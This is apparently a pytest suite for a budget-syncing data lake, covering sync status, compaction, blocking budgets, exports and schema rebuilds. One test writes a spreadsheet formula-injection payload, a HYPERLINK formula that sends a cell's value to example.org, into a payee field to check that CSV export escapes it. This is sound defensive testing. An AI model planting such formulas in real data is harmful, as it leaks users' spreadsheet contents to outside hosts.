"""Operation of a lake: freshness, runs, forgotten budgets, one budget, other versions."""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest
from deltalake import write_deltalake
from pandas.testing import assert_frame_equal

from budgetframe import BudgetFrame, ToolError
from budgetframe.lake import Lake
from budgetframe.lake.columns import FRAMES
from budgetframe.lake.writer import Writer

from .contents import found_in
from .service import EURO, YEN, Service, plain
from .test_stopped import Stopped, end_after


def test_a_quiet_budget_and_a_dead_job_can_be_told_apart(service: Service, lake: Lake) -> None:
    first = lake.status().set_index("budget_name")
    assert lake.sync([service.source()])["changed"].tolist() == [False, False]
    service.sandbox.faults = [f"500:GET:*/budgets/{service.id_of(YEN)}"]
    result = lake.sync([service.source()])
    second, runs = lake.status().set_index("budget_name"), lake.runs()
    assert dict(second["status"]) == {EURO: "ok", YEN: "failed"}
    assert second["as_of"].tolist() == first["as_of"].tolist()
    assert min(second["checked_at"]) > max(first["checked_at"])
    assert second["checked_at"][EURO] == second["tried_at"][EURO]
    assert second["checked_at"][YEN] < runs["started_at"][2] <= second["tried_at"][YEN]
    assert runs["status"].tolist() == ["ok", "ok", "failed"]
    assert runs["changed"].tolist() == [2, 0, 0]
    assert runs[["budgets", "limited", "failed"]].to_numpy().tolist()[2] == [2, 0, 1]
    assert runs["requests"].tolist() == [2, 2, result["requests"].sum()]
    assert runs["ended_at"][1] > runs["started_at"][1] > runs["ended_at"][0]
    assert result.attrs["run"]["host"] == runs["host"][2] != ""


def test_files_of_single_syncs_are_joined(
    service: Service, new_lake: Lake, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("budgetframe.lake.writer._MAX_FILES", 3)
    counts = []
    for budgets in ([EURO], [EURO, YEN], [EURO], [EURO], [EURO]):
        new_lake.sync([service.source(budgets=budgets)], buckets=1)
        counts.append([len(new_lake.delta(name).file_uris()) for name in ("ledger", "_runs")])
    assert counts == [[1, 1], [2, 2], [2, 3], [2, 1], [2, 2]]
    assert len(new_lake.runs()) == 5


@pytest.mark.slow  # it syncs several times
@pytest.mark.parametrize("by_hash", [False, True])
def test_a_blocked_budget_is_not_read_or_named_until_it_is_allowed(
    service: Service, lake: Lake, caplog: pytest.LogCaptureFixture, *, by_hash: bool
) -> None:
    caplog.set_level("INFO", logger="budgetframe")
    key, words = service.id_of(YEN), [YEN, service.id_of(YEN)]
    assert lake.forget(YEN, block=True).budget_id == key
    assert found_in(lake, words) == {}
    result = lake.sync([service.source()])
    assert result["status"].tolist() == ["blocked", "ok"]
    shown = result["budget_id"][0]
    assert result["reason"][0].endswith(f"budgetframe lake allow LAKE {shown} permits it")
    assert result["requests"].tolist() == [0, 1]
    for word in words:
        assert word not in caplog.text + result.to_json(force_ascii=False)
    lake.vacuum()
    assert found_in(lake, words) == {}
    assert lake.status()["status"].tolist() == ["blocked", "ok"]
    for other in (YEN, service.id_of(EURO)):
        with pytest.raises(ToolError, match=f"no budget with the id '{other}' is blocked"):
            lake.allow(other)
    lake.allow(shown if by_hash else key)
    assert lake.sync([service.source()])["status"].tolist() == ["ok", "ok"]
    assert lake.status()["budget_name"].tolist() == [EURO, YEN]


def test_one_budget_is_read_in_full(service: Service, lake: Lake) -> None:
    assert lake.sync([service.source()], full=[YEN])["changed"].tolist() == [False, True]
    assert lake.sync([service.source()], full=[service.id_of(EURO)])["changed"].sum() == 1
    service.sandbox.faults = ["500:GET:*/budgets@1-3"]  # the source is not available
    assert lake.sync([service.source()], full=[YEN])["status"].tolist() == ["failed", "failed"]
    service.sandbox.faults = []
    with pytest.raises(ToolError, match="full: no source has a budget 'Housebold'; the closest: H"):
        lake.sync([service.source()], full=["Housebold"])
    wrong: Any
    for wrong in ("a", None, (7,)):
        with pytest.raises(ToolError, match=re.escape(f"full={wrong!r}: it must be a list of nam")):
            lake.sync([service.source()], full=wrong)


def test_no_text_in_csv_is_a_formula(service: Service, new_lake: Lake, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"Rent")'
    with service.facade() as bf:
        row = {"date": "2026-06-01", "account_name": "Checking", "payee_name": formula}
        bf.create_transactions([{**row, "amount": -2.5, "memo": "@SUM(A1:A9)"}])
    new_lake.sync([service.source(budgets=[EURO])])
    path = new_lake.export(EURO, tmp_path / "anna.zip")
    with zipfile.ZipFile(path) as archive:
        rows = [*csv.DictReader(io.StringIO(archive.read("ledger.csv").decode()))]
        answer = archive.read("budget.json").decode()
    found = [row for row in rows if row["memo"].endswith("@SUM(A1:A9)")]
    assert [(row["payee_name"], row["memo"], row["amount"]) for row in found] == [
        (f"'{formula}", "'@SUM(A1:A9)", "-2.5")
    ]
    assert '"@SUM(A1:A9)"' in answer


def test_the_owner_of_a_budget_gets_everything_about_it_and_nothing_else(
    service: Service, lake: Lake, tmp_path: Path
) -> None:
    path = lake.export(EURO, tmp_path / "anna.zip")
    assert path.stat().st_mode & 0o777 == 0o600
    with zipfile.ZipFile(path) as archive:
        archive.extractall(tmp_path)
        texts = "".join(archive.read(name).decode() for name in archive.namelist())
        assert len(archive.namelist()) == 15
    assert service.id_of(EURO) in texts
    for word in (YEN, service.id_of(YEN), "みずうみ銀行"):
        assert word not in texts
    status = pd.read_csv(tmp_path / "status.csv")
    assert status[["budget_name", "status"]].to_numpy().tolist() == [[EURO, "ok"]]
    assert "source" not in status
    ledger, expected = pd.read_csv(tmp_path / "ledger.csv"), service.facade(EURO).ledger()
    assert ledger["amount"].tolist() == expected["amount"].tolist()
    with BudgetFrame.from_export(tmp_path / "budget.json") as bf:
        assert_frame_equal(plain(bf.accounts()), plain(lake.frame("accounts", budget=EURO)))
    with pytest.raises(ToolError, match="the lake has no budget 'Nobody' among its 2"):
        lake.export("Nobody", tmp_path / "x.zip")


def with_columns(lake: Lake, change: Callable[[pa.Schema], pa.Schema]) -> None:
    """Rewrite the accounts as another version of the package would have written them."""
    writer = Writer(lake._address)
    rows, states = (writer.snapshot.read(name) for name in ("accounts", "_state"))
    columns = change(rows.schema)
    older = pa.table([rows[each.name].cast(each.type) for each in columns], schema=columns)
    formats = pa.array(["older"] * len(states), pa.large_string())
    states = states.set_column(states.schema.get_field_index("format"), "format", formats)
    for name, table in {"accounts": older, "_state": states}.items():
        write_deltalake(writer._tables[name], table, mode="overwrite", schema_mode="overwrite")
    writer._publish()


def as_text(schema: pa.Schema) -> pa.Schema:
    """The schema of accounts with texts as balances."""
    return schema.set(schema.get_field_index("balance"), pa.field("balance", pa.large_string()))


def test_a_lake_with_old_columns_is_read_and_converted_again(service: Service, lake: Lake) -> None:
    expected = lake.frame("accounts", budget=EURO)
    new = ["note", "transfer_payee_id", "source"]  # keys too
    with_columns(lake, lambda schema: pa.schema([each for each in schema if each.name not in new]))
    older = lake.frame("accounts", budget=EURO)
    assert older[new[:2]].isna().all().all()
    assert expected["transfer_payee_id"].notna().all()
    assert_frame_equal(older.drop(columns=new[:2]), expected.drop(columns=new[:2]))
    result = lake.sync([service.source()])
    assert result["changed"].tolist() == [True, True]
    assert result["requests"].tolist() == [1, 1]  # for the changes: there are none
    assert_frame_equal(lake.frame("accounts", budget=EURO), expected)
    assert lake.sync([service.source()])["changed"].tolist() == [False, False]


def test_rebuild_writes_all_tables_again_without_a_request(
    service: Service, lake: Lake, subtests: pytest.Subtests
) -> None:
    expected = {name: lake.frame(name, budget=EURO) for name in FRAMES}
    with_columns(lake, as_text)
    service.spend(-4.5)
    with pytest.raises(ToolError, match="the column balance of the table accounts has another"):
        lake.sync([service.source()])
    assert lake.rebuild() == 2
    for name, frame in expected.items():
        with subtests.test(name=name):
            assert_frame_equal(lake.frame(name, budget=EURO), frame)
    assert lake.sync([service.source()])["changed"].tolist() == [True, False]


def test_other_types_are_refused_also_after_a_stopped_rebuild(service: Service, lake: Lake) -> None:
    with_columns(lake, as_text)
    with pytest.raises(Stopped), end_after(18):
        lake.rebuild()
    with pytest.raises(ToolError, match="the column balance of the table accounts has another"):
        lake.sync([service.source()])
    assert lake.rebuild() == 2


def test_a_rebuild_that_stops_changes_nothing(lake: Lake) -> None:
    expected = lake.frame("ledger", budget=EURO)
    for steps in (3, 20):
        with pytest.raises(Stopped), end_after(steps):
            lake.rebuild()
        assert_frame_equal(lake.frame("ledger", budget=EURO), expected)
    lake.compact()  # it restores the tables
    assert_frame_equal(lake.frame("ledger", budget=EURO), expected)
    assert lake.rebuild() == 2
